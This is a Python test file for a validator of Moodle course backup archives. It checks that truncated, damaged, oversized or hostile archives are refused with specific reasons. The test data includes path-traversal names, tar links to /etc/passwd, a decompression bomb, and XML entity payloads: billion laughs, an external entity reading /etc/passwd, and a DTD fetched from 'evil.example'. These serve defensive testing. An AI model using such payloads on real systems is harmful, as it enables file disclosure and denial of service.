"""Each defect of a tgz gets its own reason."""

import dataclasses

import pytest

from passerelle.domain.backups.manifest import Why
from passerelle.mbz import BytesSource, Limits, inspect
from tests.factories.mbz import (
    Backup,
    StoredFile,
    gzipped,
    index_of,
    real_backup,
    resealed,
    tar_member,
    tar_of,
    with_byte_changed,
)

MIB = 1024 * 1024


def verdict(data, **limits):
    return inspect(BytesSource(data), limits=Limits(**limits))


def codes(data, **limits):
    return {reason.code for reason in verdict(data, **limits).reasons}


def with_parts(parts, **options):
    return gzipped(tar_of(parts, **options))


def end_of_members(tar):
    return tar[:-1024]


def test_the_factorys_own_backup_is_accepted():
    assert verdict(Backup().tgz()).accepted


@pytest.mark.parametrize("data", [b"", b"\x1f", b"hello", b"%PDF-1.4", gzipped(b"no tar inside" * 100)])
def test_what_is_no_archive_is_no_backup(data):
    assert codes(data) in ({Why.NOT_A_BACKUP}, {Why.TRUNCATED})


def test_a_tar_without_moodle_backup_xml_is_no_backup():
    parts = Backup().parts()
    del parts["moodle_backup.xml"]
    assert codes(with_parts(parts)) == {Why.NOT_A_BACKUP}


@pytest.mark.parametrize("kind", ["activity", "section"])
def test_the_backup_of_a_part_is_no_course(kind):
    assert codes(Backup(kind=kind).tgz()) == {Why.NOT_A_COURSE}


@pytest.mark.parametrize("share", [0.01, 0.3, 0.7, 0.99])
def test_a_cut_archive_is_truncated(share):
    data = real_backup("chimie-nousers-tgz")
    assert codes(data[: int(len(data) * share)]) == {Why.TRUNCATED}


@pytest.mark.parametrize("lost", [1, 4, 8])
def test_an_archive_without_all_of_its_checksum_is_truncated(lost):
    assert codes(Backup().tgz()[:-lost]) == {Why.TRUNCATED}


@pytest.mark.parametrize("place", [-1, -5], ids=["length", "crc"])
def test_a_changed_gzip_trailer_is_damage(place):
    assert codes(with_byte_changed(Backup().tgz(), place)) == {Why.DAMAGED}


def test_a_tar_cut_between_members_under_a_whole_gzip_is_truncated():
    assert codes(gzipped(end_of_members(Backup().tar()))) == {Why.TRUNCATED}


def test_a_tar_cut_inside_a_member_under_a_whole_gzip_is_truncated():
    assert codes(gzipped(Backup().tar()[:5000])) == {Why.TRUNCATED}


def test_a_changed_member_header_is_damage():
    tar = bytearray(Backup().tar())
    tar[tar.index(b"badges.xml\0")] ^= 1
    assert codes(gzipped(bytes(tar))) == {Why.DAMAGED}


def test_several_gzip_members_in_a_row_are_one_archive_as_moodle_reads_them():
    tar = Backup().tar()
    assert verdict(gzipped(tar[:3000]) + gzipped(tar[3000:])).accepted


def test_absurdly_many_gzip_members_are_out_of_proportion():
    assert codes(gzipped(b"") * 1200 + Backup().tgz()) == {Why.OUT_OF_PROPORTION}


def test_zeros_after_the_archive_are_padding():
    assert verdict(Backup().tgz() + bytes(512)).accepted


@pytest.mark.parametrize("garbage", [b"garbage", bytes(100) + b"x", b"PK\x03\x04"])
def test_garbage_after_the_archive_is_damage(garbage):
    assert codes(Backup().tgz() + garbage) == {Why.DAMAGED}


def test_members_after_the_end_of_the_tar_which_moodle_would_unpack_are_refused():
    tar = Backup().tar() + tar_member("users.xml", b"<users><user/></users>")
    assert codes(gzipped(tar)) == {Why.UNSAFE_MEMBER}


def test_more_zeros_after_the_end_of_the_tar_are_padding():
    assert verdict(gzipped(Backup().tar() + bytes(9216))).accepted


@pytest.mark.rule("P3")
def test_files_left_out_are_refused():
    assert codes(Backup(include_files="0").tgz()) == {Why.FILES_LEFT_OUT}


def test_a_content_that_is_not_inside_is_missing():
    file = StoredFile()
    assert codes(Backup(files=(file,)).with_member(file.member, None).tgz()) == {Why.CONTENT_MISSING}


def test_a_content_that_moodle_keeps_elsewhere_may_be_missing():
    file = StoredFile(repositorytype="equella")
    assert verdict(Backup(files=(file,)).with_member(file.member, None).tgz()).accepted


def test_a_content_without_its_hash_is_altered():
    file = StoredFile()
    altered = Backup(files=(file,)).with_member(file.member, b"un contenX")
    inspection = verdict(altered.tgz())
    assert [(reason.code, reason.member) for reason in inspection.reasons] == [
        (Why.CONTENT_ALTERED, file.member)
    ]


def test_a_large_content_without_its_hash_is_altered_too():
    content = bytes(range(256)) * 20_000
    file = StoredFile(content)
    altered = Backup(files=(file,)).with_member(file.member, content[:-1] + b"X")
    assert codes(altered.tgz()) == {Why.CONTENT_ALTERED}


def test_a_content_whose_size_is_not_that_of_files_xml_is_altered():
    assert codes(Backup(files=(StoredFile(filesize=3),)).tgz()) == {Why.CONTENT_ALTERED}


def test_a_file_of_files_xml_without_a_hash_is_altered():
    assert codes(
        Backup(
            files=(
                StoredFile(),
                StoredFile(contenthash="xyz"),
            )
        )
        .with_member("files/xy/xyz", None)
        .tgz()
    ) == {Why.CONTENT_ALTERED}


@pytest.mark.parametrize("name", ["files/ab/readme.txt", "files/00/ffffffffffffffffffffffffffffffffffffffff"])
def test_a_content_not_named_after_its_hash_is_altered(name):
    assert codes(Backup().with_member(name, b"x").tgz()) == {Why.CONTENT_ALTERED}


def test_an_empty_files_content_need_not_be_inside():
    empty = StoredFile(b"", name="vide.txt")
    assert verdict(Backup(files=(StoredFile(), empty)).with_member(empty.member, None).tgz()).accepted


UNSAFE = [
    "../evil.xml",
    "activities/../../evil.xml",
    "/etc/passwd",
    "\\windows\\evil",
    "C:evil.xml",
    "c:\\evil.xml",
    "activities\\..\\..\\evil.xml",
    "activities\\page_79\\page.xml",
    "activities/./page.xml",
    "activities//page.xml",
    "us|ers.xml",
    "users.xml\x01",
    "a..b.xml",
]


@pytest.mark.parametrize("name", UNSAFE)
def test_a_member_that_leaves_the_folder_or_that_moodle_would_rename_is_unsafe(name):
    tar = end_of_members(tar_of(Backup().parts(), indexed=False)) + tar_member(name, b"x") + bytes(1024)
    assert codes(gzipped(tar)) == {Why.UNSAFE_MEMBER}


def test_names_that_start_with_a_dot_as_gnu_tar_writes_them_are_read_like_moodle_reads_them():
    parts = {f"./{name}": content for name, content in Backup().parts().items()}
    assert verdict(with_parts(parts, indexed=False)).accepted


@pytest.mark.parametrize(
    ("kind", "word"),
    [(b"1", "hard link"), (b"2", "symbolic link"), (b"3", "device"), (b"4", "device"), (b"6", "pipe")],
)
def test_links_devices_and_pipes_are_unsafe_and_named_for_what_they_are(kind, word):
    tar = tar_member("link", kind=kind, link="/etc/passwd") + tar_of(Backup().parts(), indexed=False)
    reasons = verdict(gzipped(tar)).reasons
    assert [reason.code for reason in reasons] == [Why.UNSAFE_MEMBER]
    assert word in reasons[0].message


@pytest.mark.parametrize("kind", [b"x", b"g", b"L", b"K", b"S", b"V"])
def test_headers_that_moodles_extractor_takes_for_files_are_unsafe(kind):
    tar = tar_member("users.xml", b"30 path=users.xml\n", kind=kind) + tar_of(Backup().parts(), indexed=False)
    assert codes(gzipped(tar)) == {Why.UNSAFE_MEMBER}


@pytest.mark.parametrize(
    "size", [b"\x80" + bytes(10) + b"\x05", b"-0000000005\0", b"9999999999\0\0", b"\xff" * 12]
)
def test_sizes_that_moodle_cannot_read_are_unsafe(size):
    header = tar_member("note.txt")[:512]
    header = resealed(header[:124] + size + header[136:])
    assert codes(gzipped(header + bytes(1024))) == {Why.UNSAFE_MEMBER}


def test_a_folder_or_link_with_content_is_unsafe():
    header = tar_member("folder/")[:512]
    header = resealed(header[:124] + b"00000001000\0" + header[136:])
    assert codes(gzipped(header + bytes(2048))) == {Why.UNSAFE_MEMBER}


@pytest.mark.parametrize("second", ["badges.xml", "BADGES.xml", "Badges.XML", "badges.xml/", "ｂadges.xml"])
def test_a_member_twice_or_differing_in_writing_only_is_a_duplicate(second):
    tar = end_of_members(tar_of(Backup().parts(), indexed=False)) + tar_member(second) + bytes(1024)
    assert codes(gzipped(tar)) == {Why.DUPLICATE_MEMBER}


def test_names_that_differ_by_the_composition_of_accents_are_duplicates():
    parts = Backup().with_member("e\u0301t\u0301e.txt", b"x").with_member("\u00e9t\u0301e.txt", b"x")
    assert codes(parts.tgz()) == {Why.DUPLICATE_MEMBER}


def test_an_archive_that_unpacks_a_hundredfold_is_out_of_proportion():
    bomb = Backup().with_member("zeros.bin", bytes(6 * MIB)).tgz()
    assert len(bomb) < MIB / 50
    assert codes(bomb, ratio_floor=4 * MIB) == {Why.OUT_OF_PROPORTION}


def test_a_small_course_of_much_repetition_is_in_proportion():
    assert verdict(Backup(page="bonjour " * 200_000).tgz()).accepted


def test_absurdly_many_members_are_out_of_proportion():
    assert codes(Backup().tgz(), members=10) == {Why.OUT_OF_PROPORTION}


def test_an_absurdly_large_xml_member_is_out_of_proportion_before_it_is_read():
    assert codes(Backup(page="x" * 100_000).tgz(), xml_member=50_000) == {Why.OUT_OF_PROPORTION}


def test_absurdly_much_xml_in_all_is_out_of_proportion():
    assert codes(Backup().tgz(), xml_total=3_000) == {Why.OUT_OF_PROPORTION}


def test_one_absurdly_large_tag_is_out_of_proportion():
    page = f"<activity><page title='{'x' * MIB}'/></activity>"
    assert codes(Backup().with_member("activities/page_80/page.xml", page).tgz(), xml_token=MIB // 4) == {
        Why.OUT_OF_PROPORTION
    }


def test_absurdly_many_rows_are_out_of_proportion():
    files = tuple(StoredFile(bytes([number])) for number in range(20))
    assert codes(Backup(files=files).tgz(), kept=2_000) == {Why.OUT_OF_PROPORTION}


def test_an_archive_above_the_networks_limit_is_too_large():
    assert codes(Backup().tgz(), archive=1000) == {Why.TOO_LARGE}


LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><badges>&lol2;</badges>'
EXTERNAL = '<!DOCTYPE badges [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><badges>&xxe;</badges>'
PARAMETER = '<!DOCTYPE badges [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><badges/>'


@pytest.mark.parametrize("body", [LAUGHS, EXTERNAL, PARAMETER, "<!DOCTYPE badges><badges/>"])
def test_xml_with_entities_or_a_document_type_is_unsafe(body):
    assert codes(Backup().with_member("badges.xml", body).tgz()) == {Why.UNSAFE_XML}


def test_xml_nested_absurdly_deep_is_unsafe():
    body = "<badges>" + "<x>" * 200 + "</x>" * 200 + "</badges>"
    assert codes(Backup().with_member("badges.xml", body).tgz()) == {Why.UNSAFE_XML}


@pytest.mark.parametrize(
    "body", [b"", b"<badges>", b"<badges></bages>", b"\xff\xfe<\0b\0/\0>\0", b"<b>\xe9</b>", b"<b/><b/>"]
)
def test_xml_that_cannot_be_read_is_bad(body):
    assert codes(Backup().with_member("badges.xml", body).tgz()) == {Why.BAD_XML}


class TestIndex:
    """`.ARCHIVE_INDEX` is believed in nothing and must be right in everything."""

    def lying(self, change):
        parts = Backup().parts()
        return codes(with_parts(parts, index=change(index_of(parts))))

    def test_an_archive_without_an_index_may_be_sound(self):
        assert verdict(with_parts(Backup().parts(), indexed=False)).accepted

    def test_a_wrong_count_is_damage(self):
        assert self.lying(lambda index: index.replace(b"Count: 2", b"Count: 3", 1)) == {Why.DAMAGED}

    def test_a_wrong_size_is_damage(self):
        assert self.lying(lambda index: index.replace(b"badges.xml\tf\t", b"badges.xml\tf\t1", 1)) == {
            Why.DAMAGED
        }

    def test_a_promised_member_that_never_comes_is_truncation(self):
        assert self.lying(lambda index: index + b"users.xml\tf\t10\t1\n") == {Why.TRUNCATED}

    def test_a_member_that_the_index_hides_is_damage(self):
        def hide(index):
            return b"\n".join(line for line in index.split(b"\n") if not line.startswith(b"badges.xml"))

        assert self.lying(hide) == {Why.DAMAGED}

    def test_an_index_of_another_form_is_damage(self):
        assert self.lying(lambda _: b"something else\n") == {Why.DAMAGED}

    def test_people_hidden_from_the_index_are_found_all_the_same(self):
        parts = Backup().with_member("users.xml", "<users><user id='1'/></users>").parts()
        hidden = {name: content for name, content in parts.items() if name != "users.xml"}
        assert Why.PEOPLE_INSIDE in codes(with_parts(parts, index=index_of(hidden)))

    def test_an_index_of_absurd_size_is_out_of_proportion(self):
        assert codes(Backup().tgz(), index=100) == {Why.OUT_OF_PROPORTION}


@pytest.mark.parametrize(
    "member",
    ["course/course.xml", "files.xml", "activities/page_79/module.xml", "sections/section_21/section.xml"],
)
def test_a_part_that_moodle_backup_xml_promises_must_be_inside(member):
    backup = Backup().with_member(member, None)
    assert codes(with_parts(backup.parts(), indexed=False)) == {Why.TRUNCATED}


def test_several_reasons_are_told_together():
    backup = Backup(files=(StoredFile(), StoredFile(b"2", filesize=5))).with_member(
        "users.xml", "<users><user/></users>"
    )
    inspection = inspect(BytesSource(backup.tgz()), target_release="3.9")
    assert {reason.code for reason in inspection.reasons} == {
        Why.PEOPLE_INSIDE,
        Why.CONTENT_ALTERED,
        Why.NEWER_RELEASE,
    }


def test_a_reason_that_holds_a_thousand_times_is_told_five_times():
    files = tuple(StoredFile(bytes([number]), filesize=99) for number in range(50))
    assert len(verdict(Backup(files=files).tgz()).reasons) == 5


def test_every_reason_says_what_to_do_or_what_is_wrong_in_a_sentence():
    for change in ({"kind": "section"}, {"include_files": "0"}):
        for reason in verdict(dataclasses.replace(Backup(), **change).tgz()).reasons:
            assert len(reason.message.split()) > 5


def test_a_gzip_header_with_a_file_name_is_read():
    import gzip
    import io

    out = io.BytesIO()
    with gzip.GzipFile("backup.tar", "wb", fileobj=out) as file:
        file.write(Backup().tar())
    assert verdict(out.getvalue()).accepted


def test_gnu_fields_that_moodle_would_read_as_part_of_the_name_are_unsafe():
    header = tar_member("users.xml")[:512]
    header = header[:257] + b"ustar  \0" + header[265:345] + b"12345670123" + header[356:]
    assert codes(gzipped(resealed(header) + bytes(1024))) == {Why.UNSAFE_MEMBER}


def test_a_file_loose_in_the_folder_of_contents_is_altered():
    assert codes(Backup().with_member("files/users.xml", b"<users/>").tgz()) == {Why.CONTENT_ALTERED}


@pytest.mark.rule("P16")
def test_the_newer_of_the_two_releases_that_a_backup_tells_counts():
    for told in ({"release": "5.1 (Build: 20260101)"}, {"backup_release": "5.1"}):
        data = dataclasses.replace(Backup(), **told).tgz()
        inspection = inspect(BytesSource(data), target_release="5.0")
        assert [reason.code for reason in inspection.reasons] == [Why.NEWER_RELEASE]


@pytest.mark.rule("P16")
def test_a_backup_that_tells_no_release_is_too_new_for_any_target():
    data = dataclasses.replace(Backup(), release="", backup_release="").tgz()
    assert {reason.code for reason in inspect(BytesSource(data), target_release="5.0").reasons} == {
        Why.NEWER_RELEASE
    }


def test_an_export_in_another_format_is_no_backup():
    backup = Backup()
    told = backup.parts()["moodle_backup.xml"].replace(
        b"<format>moodle2</format>", b"<format>imscc11</format>"
    )
    assert codes(backup.with_member("moodle_backup.xml", told).tgz()) == {Why.NOT_A_BACKUP}
